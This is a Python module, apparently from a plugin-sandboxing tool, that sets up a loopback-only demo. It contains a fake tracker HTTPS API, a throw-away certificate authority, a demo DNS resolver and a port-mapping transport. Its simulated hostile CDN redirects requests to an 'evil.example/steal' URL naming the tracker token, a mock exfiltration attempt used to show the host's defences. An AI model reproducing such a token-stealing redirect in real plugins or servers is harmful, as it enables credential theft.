"""The demo's fake tracker API: HTTPS on loopback, a CA made at run time, nothing else.

``stockade demo`` must not touch the network beyond loopback, so the names the plugins
use (``api.tracker.example`` for the tracker, ``cdn.hostile.example`` for the hostile
plugin) are answered by one threaded HTTPS server on ``127.0.0.1`` with a certificate
issued by a throw-away CA. The host trusts that CA through ``HostConfig.extra_ca_file``
and still verifies the certificate and host name on every connection.

Three demo-only pieces join the host to the server; each is named so nobody mistakes it
for production wiring:

- :func:`demo_resolver` — the DNS port, answering ``127.0.0.1`` for the demo names and
  refusing every other name (no real DNS query is ever made);
- :func:`demo_transport_factory` — the pinned transport, except that a connection to
  the *vetted loopback address* on port 443 is opened on the server's ephemeral port;
  every policy, pinning and TLS check runs unchanged (the port is only changed under
  the socket, below the pin check);
- the host itself runs with ``HostConfig.unsafe_allow_loopback=True`` so the vetted
  address may be 127.0.0.1 at all (the demo says so on screen).

The server implements the tracker contract (prefix ``/v1``, bearer ``tracker_token``)::

    GET  /v1/repos/{repo}/issues                    200 [{"number", "title", "state"}]
    GET  /v1/repos/{repo}/issues/{number}           200 {"number", "title", "body", "state", "comments"} | 404
    POST /v1/repos/{repo}/issues {"title","body"}   201 {"number", "title", "body", "state"}
    POST /v1/repos/{repo}/issues/{number}/comments  201 {"id", "body"}
    missing or wrong bearer                         401 {"error": "unauthorized"}

and, for the hostile plugin's host, ``GET /hostile/asset.js`` answers 302 to
``https://evil.example/steal``. Every request is recorded with the Authorization header
the server received, so the demo can show what reached the wire.
"""

from __future__ import annotations

import datetime
import ipaddress
import json
import re
import socket
import ssl
import threading
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import TracebackType
from typing import Any, Final
from urllib.parse import unquote

import httpcore2
import httpx2
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

from host.egress.transport import PinnedTransport, Pins, TransportFactory, tls_context

__all__ = [
    "DEMO_HOSTS",
    "EVIL_LOCATION",
    "HOSTILE_HOST",
    "TRACKER_HOST",
    "DemoCA",
    "Seen",
    "TrackerServer",
    "demo_resolver",
    "demo_transport_factory",
]

TRACKER_HOST: Final = "api.tracker.example"
HOSTILE_HOST: Final = "cdn.hostile.example"
DEMO_HOSTS: Final = (TRACKER_HOST, HOSTILE_HOST)
EVIL_LOCATION: Final = "https://evil.example/steal?what=tracker_token"
_LOOPBACK: Final = "127.0.0.1"
_MAX_BODY: Final = 64 * 1024  # bytes of a request body the fake server reads
_ISSUE_PATH: Final = re.compile(
    r"^/v1/repos/(?P<repo>.+?)/issues(?:/(?P<number>[0-9]{1,9})(?P<comments>/comments)?)?$"
)


# --- certificates --------------------------------------------------------------------------


def _name(common_name: str) -> x509.Name:
    return x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])


@dataclass(frozen=True)
class DemoCA:
    """A CA made for one demo run (ECDSA P-256, valid for a day) and the server's files.

    Attributes:
        ca_file: the CA certificate (PEM) to pass as ``HostConfig.extra_ca_file``.
        cert_file: the server certificate for :data:`DEMO_HOSTS`.
        key_file: the server's private key (mode 0600).
    """

    ca_file: Path
    cert_file: Path
    key_file: Path

    @classmethod
    def create(cls, directory: Path) -> DemoCA:
        """Make the CA and a server certificate for the demo names under ``directory``."""
        directory.mkdir(parents=True, exist_ok=True)
        now = datetime.datetime.now(datetime.timezone.utc)
        ca_key = ec.generate_private_key(ec.SECP256R1())
        ca_name = _name("Stockade Demo CA (throw-away)")
        ca_cert = (
            x509.CertificateBuilder()
            .subject_name(ca_name)
            .issuer_name(ca_name)
            .public_key(ca_key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(hours=1))
            .not_valid_after(now + datetime.timedelta(days=1))
            .add_extension(x509.BasicConstraints(ca=True, path_length=0), critical=True)
            .add_extension(_key_usage(ca=True), critical=True)
            .add_extension(x509.SubjectKeyIdentifier.from_public_key(ca_key.public_key()), critical=False)
            .sign(ca_key, hashes.SHA256())
        )
        key = ec.generate_private_key(ec.SECP256R1())
        cert = (
            x509.CertificateBuilder()
            .subject_name(_name(DEMO_HOSTS[0]))
            .issuer_name(ca_name)
            .public_key(key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(hours=1))
            .not_valid_after(now + datetime.timedelta(days=1))
            .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
            .add_extension(x509.SubjectAlternativeName([x509.DNSName(h) for h in DEMO_HOSTS]), critical=False)
            .add_extension(x509.ExtendedKeyUsage([ExtendedKeyUsageOID.SERVER_AUTH]), critical=False)
            .add_extension(
                x509.AuthorityKeyIdentifier.from_issuer_public_key(ca_key.public_key()), critical=False
            )
            .sign(ca_key, hashes.SHA256())
        )
        ca_file = directory / "ca.pem"
        cert_file, key_file = directory / "server.pem", directory / "server.key"
        ca_file.write_bytes(ca_cert.public_bytes(serialization.Encoding.PEM))
        cert_file.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
        key_file.touch(mode=0o600)
        key_file.write_bytes(
            key.private_bytes(
                serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
            )
        )
        return cls(ca_file=ca_file, cert_file=cert_file, key_file=key_file)

    def server_context(self) -> ssl.SSLContext:
        """The server-side TLS context presenting the demo certificate."""
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.minimum_version = ssl.TLSVersion.TLSv1_2
        context.load_cert_chain(self.cert_file, self.key_file)
        return context


def _key_usage(*, ca: bool) -> x509.KeyUsage:
    return x509.KeyUsage(
        digital_signature=True, content_commitment=False, key_encipherment=False,
        data_encipherment=False, key_agreement=False, key_cert_sign=ca,
        crl_sign=ca, encipher_only=False, decipher_only=False,
    )


# --- the server ----------------------------------------------------------------------------


@dataclass(frozen=True)
class Seen:
    """One request as the fake server received it."""

    host: str
    method: str
    path: str
    authorization: str | None
    status: int


@dataclass
class _Tracker:
    """In-memory issues, seeded per repository on first use."""

    issues: dict[str, list[dict[str, Any]]] = field(default_factory=dict)
    comments: int = 0
    lock: threading.Lock = field(default_factory=threading.Lock)

    def repo(self, name: str) -> list[dict[str, Any]]:
        if name not in self.issues:
            self.issues[name] = [
                {"number": 1, "title": "Widget spins forever on empty input", "state": "open",
                 "body": "Steps: open a widget with no input.", "comments": 2},
                {"number": 2, "title": "Document the retry policy", "state": "open",
                 "body": "The README does not say how often we retry.", "comments": 0},
                {"number": 3, "title": "Crash on start-up (fixed in 1.4)", "state": "closed",
                 "body": "Fixed by #12.", "comments": 5},
            ]
        return self.issues[name]


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    timeout = 10  # s: an idle keep-alive connection is dropped after this
    server: _Server

    def log_message(self, format: str, *args: Any) -> None:
        """Silence the default stderr access log."""

    def _body(self) -> bytes:
        length = int(self.headers.get("Content-Length", "0") or "0")
        return self.rfile.read(min(length, _MAX_BODY)) if length > 0 else b""

    def _send(self, status: int, document: Any = None, headers: Iterable[tuple[str, str]] = ()) -> None:
        body = b"" if document is None else json.dumps(document).encode("utf-8")
        host = (self.headers.get("Host") or "").split(":", 1)[0].lower()
        # Recorded before answering, so a caller that has its answer always finds the record.
        auth = self.headers.get("Authorization")
        self.server.owner.record(Seen(host, self.command, self.path, auth, status))
        self.send_response(status)
        for name, value in headers:
            self.send_header(name, value)
        if document is not None:
            self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _dispatch(self) -> None:
        body = self._body()
        host = (self.headers.get("Host") or "").split(":", 1)[0].lower()
        if host == HOSTILE_HOST:
            self._hostile()
        elif host == TRACKER_HOST:
            self._tracker(body)
        else:
            self._send(421, {"error": "misdirected request"})

    def _hostile(self) -> None:
        if self.path.startswith("/hostile/asset.js"):
            self._send(302, None, [("Location", EVIL_LOCATION)])
        else:
            self._send(404, {"error": "not found"})

    def _tracker(self, body: bytes) -> None:
        owner = self.server.owner
        if self.headers.get("Authorization") != f"Bearer {owner.token}":
            self._send(401, {"error": "unauthorized"})
            return
        match = _ISSUE_PATH.match(self.path.split("?", 1)[0])
        if match is None:
            self._send(404, {"error": "not found"})
            return
        try:
            payload = json.loads(body) if body else {}
        except ValueError:
            self._send(400, {"error": "body is not JSON"})
            return
        status, document = owner.tracker_answer(self.command, match, payload)
        self._send(status, document)

    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = _dispatch


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    block_on_close = False
    owner: TrackerServer

    def __init__(self, context: ssl.SSLContext) -> None:
        super().__init__((_LOOPBACK, 0), _Handler)
        self._context = context

    def get_request(self) -> tuple[socket.socket, Any]:
        sock, address = super().get_request()
        sock.settimeout(10)
        return self._context.wrap_socket(sock, server_side=True), address

    def handle_error(self, request: Any, client_address: Any) -> None:
        """A failed handshake or a dropped connection is not worth a traceback here."""


class TrackerServer:
    """The fake tracker API (and the hostile plugin's CDN) on ``127.0.0.1:<ephemeral>``.

    Args:
        ca: the demo CA whose server certificate the server presents.
        token: the bearer token the tracker API accepts.

    Use as a context manager; :attr:`seen` lists every request received.
    """

    def __init__(self, ca: DemoCA, *, token: str) -> None:
        self.token = token
        self._tracker = _Tracker()
        self._seen: list[Seen] = []
        self._lock = threading.Lock()
        self._server = _Server(ca.server_context())
        self._server.owner = self
        self.port: int = self._server.server_address[1]
        self._thread: threading.Thread | None = None

    @property
    def seen(self) -> list[Seen]:
        """Every request received so far, in order."""
        with self._lock:
            return list(self._seen)

    def record(self, seen: Seen) -> None:
        """Remember one request (called by the handler)."""
        with self._lock:
            self._seen.append(seen)

    def tracker_answer(self, method: str, match: re.Match[str], payload: Any) -> tuple[int, Any]:
        """The status and JSON document the tracker API answers with."""
        repo = unquote(match["repo"])
        number = int(match["number"]) if match["number"] else None
        with self._tracker.lock:
            issues = self._tracker.repo(repo)
            if number is None:
                if method == "GET":
                    return 200, [{k: i[k] for k in ("number", "title", "state")} for i in issues]
                if method == "POST" and isinstance(payload, dict):
                    issue = {"number": len(issues) + 1, "title": str(payload.get("title", "")),
                             "body": str(payload.get("body", "")), "state": "open", "comments": 0}
                    issues.append(issue)
                    return 201, {k: issue[k] for k in ("number", "title", "body", "state")}
                return 405, {"error": "method not allowed"}
            found = next((i for i in issues if i["number"] == number), None)
            if found is None:
                return 404, {"error": "no such issue"}
            if match["comments"] and method == "POST" and isinstance(payload, dict):
                found["comments"] += 1
                self._tracker.comments += 1
                return 201, {"id": 1000 + self._tracker.comments, "body": str(payload.get("body", ""))}
            if not match["comments"] and method == "GET":
                return 200, dict(found)
            return 405, {"error": "method not allowed"}

    def start(self) -> TrackerServer:
        """Serve in a daemon thread."""
        self._thread = threading.Thread(
            target=self._server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
        )
        self._thread.start()
        return self

    def stop(self) -> None:
        """Stop serving and close the listening socket."""
        self._server.shutdown()
        self._server.server_close()
        if self._thread is not None:
            self._thread.join(timeout=5)

    def __enter__(self) -> TrackerServer:
        return self.start()

    def __exit__(
        self, exc_type: type[BaseException] | None, exc: BaseException | None, tb: TracebackType | None
    ) -> None:
        self.stop()


# --- the host side: DNS port and transport -----------------------------------------------------


def demo_resolver(host: str) -> list[str]:
    """DEMO ONLY. The DNS port: the demo names resolve to 127.0.0.1, every other name fails.

    Raises:
        OSError: any name that is not one of :data:`DEMO_HOSTS` (no real DNS is queried).
    """
    if host.lower().rstrip(".") in DEMO_HOSTS:
        return [_LOOPBACK]
    raise OSError(f"{host}: not a demo name (the demo never queries real DNS)")


class _LoopbackPortMap(httpcore2.NetworkBackend):
    """Under the pin check: open loopback connections on the demo server's port."""

    def __init__(self, port_map: Mapping[int, int]) -> None:
        self._map = dict(port_map)
        self._inner = httpcore2.SyncBackend()

    def connect_tcp(
        self,
        host: str,
        port: int,
        timeout: float | None = None,
        local_address: str | None = None,
        socket_options: Iterable[Any] | None = None,
    ) -> httpcore2.NetworkStream:
        """Connect to a *loopback* vetted address, on the mapped port.

        Raises:
            httpcore2.ConnectError: the address is not loopback (the demo reaches nothing else).
        """
        if not ipaddress.ip_address(host).is_loopback:
            raise httpcore2.ConnectError(f"the demo transport only reaches loopback, not {host}")
        mapped = self._map.get(port, port)
        return self._inner.connect_tcp(host, mapped, timeout, local_address, socket_options)

    def sleep(self, seconds: float) -> None:
        """Delegate to the synchronous backend."""
        self._inner.sleep(seconds)


def demo_transport_factory(*, ca_file: Path, https_port: int) -> TransportFactory:
    """DEMO ONLY. Pinned transports that reach the loopback fake server on ``https_port``.

    Args:
        ca_file: the demo CA (certificates are verified against it and the system store).
        https_port: the fake server's port; connections to port 443 are opened there.

    Returns:
        A :data:`~host.egress.transport.TransportFactory` for ``Host.open``.
    """
    context = tls_context(ca_file)

    def factory(pins: Pins) -> httpx2.BaseTransport:
        return PinnedTransport(pins, ssl_context=context, socket_backend=_LoopbackPortMap({443: https_port}))

    return factory
